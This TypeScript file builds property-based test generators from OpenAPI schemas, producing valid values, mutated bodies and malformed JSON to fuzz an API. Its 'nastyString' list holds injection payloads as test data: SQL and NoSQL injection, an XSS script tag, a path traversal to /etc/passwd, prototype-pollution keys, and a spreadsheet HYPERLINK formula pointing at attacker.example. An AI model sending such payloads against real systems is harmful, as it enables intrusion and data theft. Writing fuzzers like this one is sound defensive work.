/* eslint-disable @typescript-eslint/no-explicit-any -- values generated from untyped schemas */
import fc from 'fast-check';
import { resolve, type Schema } from './openapi';

type Arbitrary = fc.Arbitrary<any>;

const isoDate = fc
  .date({ min: new Date('2020-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
  .map((date) => date.toISOString().slice(0, 10));

/** Strings that have broken parsers before: encodings, control characters, injections, lookalikes. */
export const nastyString = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\uFEFF',
    '\uD800',
    '\u202E',
    '💥'.repeat(50),
    "' OR 1=1 --",
    '<script>alert(1)</script>',
    '../../etc/passwd',
    '%00',
    '{"$gt":""}',
    '__proto__',
    'constructor',
    'NaN',
    '-0',
    '1e309',
    '9007199254740993',
    // Issue 19: text XML 1.0 forbids (the IATI export), and formulas a spreadsheet would run.
    '\u0001\u000b',
    '\uFFFE',
    '\uFFFF',
    '=HYPERLINK("http://attacker.example/?x","open")',
    '@SUM(1+1)',
    '\t=1+1',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

const stringOf = (schema: Schema): Arbitrary => {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.format === 'date') return isoDate;
  if (schema.format === 'uuid') return fc.uuid();
  if (schema.format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString());
  const max = Math.min(schema.maxLength ?? 60, 60);
  const generated = schema.pattern
    ? fc
        .stringMatching(new RegExp(schema.pattern))
        .filter((value) => value.length <= (schema.maxLength ?? Infinity))
    : fc.oneof(
        { arbitrary: fc.string({ minLength: schema.minLength ?? 0, maxLength: max }), weight: 6 },
        { arbitrary: nastyString, weight: 1 },
      );
  // The documented example is usually a value the business rules accept (a real currency, country).
  return schema.example === undefined
    ? generated
    : fc.oneof({ arbitrary: fc.constant(schema.example), weight: 3 }, { arbitrary: generated, weight: 1 });
};

/** A value the schema accepts (as far as a schema can say: business rules may still refuse it). */
export const validValue = (doc: any, raw: Schema | undefined, depth = 0): Arbitrary => {
  const schema = resolve(doc, raw);
  if (!schema || depth > 6) return fc.constant(null);
  if (schema.allOf)
    return validValue(
      doc,
      Object.assign({}, ...schema.allOf.map((part: Schema) => resolve(doc, part))),
      depth + 1,
    );
  if (schema.oneOf || schema.anyOf)
    return fc.oneof(
      ...(schema.oneOf ?? schema.anyOf).map((part: Schema) => validValue(doc, part, depth + 1)),
    );
  switch (schema.type) {
    case 'string':
      return stringOf(schema);
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? -1000;
      const max = Math.min(schema.maximum ?? 1_000_000, Number.MAX_SAFE_INTEGER);
      return fc.integer({ min, max });
    }
    case 'boolean':
      return fc.boolean();
    case 'array': {
      const item = validValue(doc, schema.items, depth + 1);
      const constraints = { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 5, 9) };
      return schema.uniqueItems
        ? fc.uniqueArray(item, { ...constraints, selector: (v) => JSON.stringify(v) })
        : fc.array(item, constraints);
    }
    default: {
      const properties: Record<string, Schema> = schema.properties ?? {};
      const required = new Set<string>(schema.required ?? []);
      const entries = Object.entries(properties).map(
        ([name, property]) => [name, validValue(doc, property, depth + 1)] as const,
      );
      return fc.record(Object.fromEntries(entries), {
        requiredKeys: [...required].filter((name) => name in properties),
      });
    }
  }
};

/** Properties a client must never be able to set: identity, state, ownership, prototype pollution. */
export const FORBIDDEN_PROPERTIES = [
  'id',
  'status',
  'organizationId',
  '__proto__',
  'constructor',
  'revision',
  'position',
  'prototype',
];

const wrongTypes = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant({}),
  fc.constant([]),
  nastyString,
  fc.string({ minLength: 10_001, maxLength: 10_050 }),
);

/** A body the schema refuses: one mutation of a valid body, or something that is not a body at all. */
export const invalidBody = (
  doc: any,
  schema: Schema | undefined,
): fc.Arbitrary<{ json?: unknown; raw?: string }> => {
  const valid = validValue(doc, schema);
  const resolved = resolve(doc, schema) ?? {};
  const names = Object.keys(resolved.properties ?? {});
  const mutated = fc
    .tuple(valid, fc.nat(), fc.constantFrom(...FORBIDDEN_PROPERTIES, 'unexpected'), wrongTypes, fc.nat(3))
    .map(([body, pick, forbidden, wrong, kind]) => {
      const copy: Record<string, unknown> = body && typeof body === 'object' ? { ...body } : {};
      const name = names.length ? names[pick % names.length] : 'field';
      if (kind === 0) delete copy[name];
      else if (kind === 1) copy[name] = wrong;
      // JSON.parse makes `__proto__` an own property, as it arrives from the wire.
      else if (kind === 2)
        return {
          raw: JSON.stringify(copy).replace(
            /^\{/,
            `{${JSON.stringify(forbidden)}:${JSON.stringify(wrong)}${Object.keys(copy).length ? ',' : ''}`,
          ),
        };
      else copy[name] = { nested: copy[name] };
      return { json: copy };
    });
  const notABody = fc
    .oneof(
      fc.constantFrom(
        '',
        '{',
        '{"a":1,}',
        'null',
        '[]',
        '"text"',
        '123',
        '{"a":' + '['.repeat(5000),
        '\u0000',
      ),
      nastyString,
    )
    .map((raw) => ({ raw }));
  return fc.oneof({ arbitrary: mutated, weight: 4 }, { arbitrary: notABody, weight: 1 });
};
